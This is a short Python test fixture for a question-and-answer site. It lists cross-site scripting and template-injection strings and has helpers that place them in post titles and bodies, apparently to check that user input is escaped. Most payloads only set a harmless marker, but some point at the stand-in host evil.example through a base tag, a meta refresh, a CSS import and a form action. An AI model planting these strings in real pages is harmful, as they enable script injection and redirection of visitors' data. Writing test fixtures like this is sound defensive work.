"""Markup that attackers put into fields so that a page runs it, within the English text that the node demands."""

MARKUP = (
    "<script>window.hurt=1</script>",
    "</title><script>window.hurt=1</script>",
    "</textarea><script>window.hurt=1</script>",
    "--><script>window.hurt=1</script>",
    "<img src=x onerror=window.hurt=1>",
    "<svg/onload=window.hurt=1>",
    '"><svg onload="window.hurt=1">',
    "' onmouseover='window.hurt=1' x='",
    '" autofocus onfocus="window.hurt=1',
    '<a href="javascript:window.hurt=1">here</a>',
    "javascript:window.hurt=1",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>send</button></form>",
    "<math><mtext></mtext><script>window.hurt=1</script></math>",
    "<![CDATA[<script>window.hurt=1</script>]]>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "&lt;script&gt;window.hurt=1&lt;/script&gt; &#60;b&#62;",
    "<noscript><p title='</noscript><img src=x onerror=window.hurt=1>'></noscript>",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>window.hurt=1</script>",
)


def title(markup: str) -> str:
    """Return a title that contains the markup."""
    return f"Please look at this before you answer the question {markup}"


def body(markup: str) -> str:
    """Return a body with the markup on a line of its own."""
    return (
        f"I found this text on another page and would like to know what it means.\n{markup}\nThank you for your help."
    )
